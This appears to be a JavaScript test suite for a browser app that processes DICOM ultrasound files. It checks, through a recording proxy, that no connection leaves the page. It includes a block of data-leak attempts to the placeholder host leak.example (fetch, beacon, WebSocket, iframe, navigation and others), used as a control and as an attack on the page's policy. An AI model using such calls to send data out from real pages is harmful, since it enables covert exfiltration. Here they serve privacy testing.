// Nothing leaves: every connection that the browser opens during a whole job goes to a recorder, which must stay empty.
// A control page without the policy shows that the recorder would have seen it.
import assert from 'node:assert/strict';
import { createServer } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { ORIGINS, address, deliverZip, folder, filesIn, launch, lookAndClear, open, paint } from './page.mjs';
import { ultrasound } from './dicom.mjs';

// What the browser says to its own maker (sign-in, updates) it says with any page open, or none.
const BROWSERS_OWN = /^(CONNECT|GET|POST) (https?:\/\/)?[\w.-]+\.(google|googleapis|gvt1|gstatic)\.com[:/]/;

/** A proxy that answers nothing and counts what knocks. */
function recorder() {
  const knocks = [];
  const server = createServer((socket) => {
    socket.once('data', (bytes) => {
      const [line] = bytes.toString('latin1').split('\r\n');
      if (!BROWSERS_OWN.test(line)) knocks.push(line);
    });
    socket.on('error', () => {});
    setTimeout(() => socket.destroy(), 200);
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ knocks, port: server.address().port, close: () => server.close() })));
}

const ATTEMPTS = `
  const go = (f) => { try { f(); } catch {} };
  go(() => fetch('http://leak.example/fetch').catch(() => {}));
  go(() => { new Image().src = 'http://leak.example/image'; });
  go(() => navigator.sendBeacon('http://leak.example/beacon', 'x'));
  go(() => new WebSocket('ws://leak.example/socket'));
  go(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://leak.example/xhr'); x.send(); });
  go(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://leak.example/css'; document.head.append(l); });
  go(() => { const s = document.createElement('iframe'); s.src = 'http://leak.example/frame'; document.body.append(s); });
  go(() => { const a = document.createElement('a'); a.href = 'http://leak.example/link'; document.body.append(a); a.click(); });
  go(() => { location.href = 'http://leak.example/location'; });
  go(() => { window.open('http://leak.example/open'); });
`;

/** What a page without a policy must be seen to send, so that silence means something. */
const SEEN = [/\/fetch/, /\/image/, /\/beacon/, /\/xhr/, /\/css/, /\/frame/, /\/open/, /CONNECT leak\.example|\/socket/, /\/link|\/location/];

for (const origin of ORIGINS) {
  describe(`nothing leaves the page from ${origin}`, () => {
    let record, browser, site, files;
    before(async () => {
      record = await recorder();
      // The page's own server is on this computer, which the browser reaches without the proxy.
      browser = await launch({ args: [`--proxy-server=http://127.0.0.1:${record.port}`] });
      site = await address(origin);
      files = folder({ 'us.dcm': ultrasound(1) });
    });
    after(async () => { await browser.close(); site.close(); record.close(); files.remove(); });

    test('the recorder sees a page that has no policy', async () => {
      const context = await browser.newContext();
      const page = await context.newPage();
      await page.goto('data:text/html,<body></body>');
      await page.evaluate(`setTimeout(() => { ${ATTEMPTS} }, 0)`);
      // As long as it takes on a busy machine; and no longer.
      const all = () => SEEN.every((wanted) => record.knocks.some((line) => wanted.test(line)));
      for (let wait = 0; wait < 100 && !all(); wait += 1) await page.waitForTimeout(200);
      await page.waitForTimeout(500);
      for (const wanted of SEEN) assert.ok(record.knocks.some((line) => wanted.test(line)), `the control page did not leak ${wanted}`);
      // With the pop-ups it opened; a moment for what they still have under way.
      await context.close();
      await new Promise((resolve) => setTimeout(resolve, 1000));
      record.knocks.length = 0;
    });

    test('a whole job opens no connection, and neither do attempts from within the page', async () => {
      const { page, close } = await open(browser, site.url);
      await page.waitForTimeout(1000);
      const requests = site.requests();
      await page.getByTestId('intake-folder').setInputFiles(files.path);
      await filesIn(page, 1);
      await page.getByTestId('series').click();
      await page.waitForFunction(() => document.querySelector('[data-testid=viewer]')?.dataset.columns === '80');
      await paint(page, [2, 2, 20, 10]);
      await lookAndClear(page);
      await deliverZip(page);
      await page.locator('[data-testid=summary][data-cleaned="1"]').waitFor();
      assert.deepEqual(record.knocks, []);
      // A job's own code runs from timers and events: so must the attempts, for evaluated code is exempt from the policy.
      await page.evaluate(`setTimeout(() => { ${ATTEMPTS}; fetch('./sw.js').catch(() => {}); }, 0)`);
      await page.waitForTimeout(1500);
      assert.deepEqual(record.knocks, []);
      assert.equal(site.requests(), requests, 'the page asked its own server for something');
      assert.equal(page.url().split('#')[0], site.url, 'the page was navigated away');
      await close();
    });
  });
}
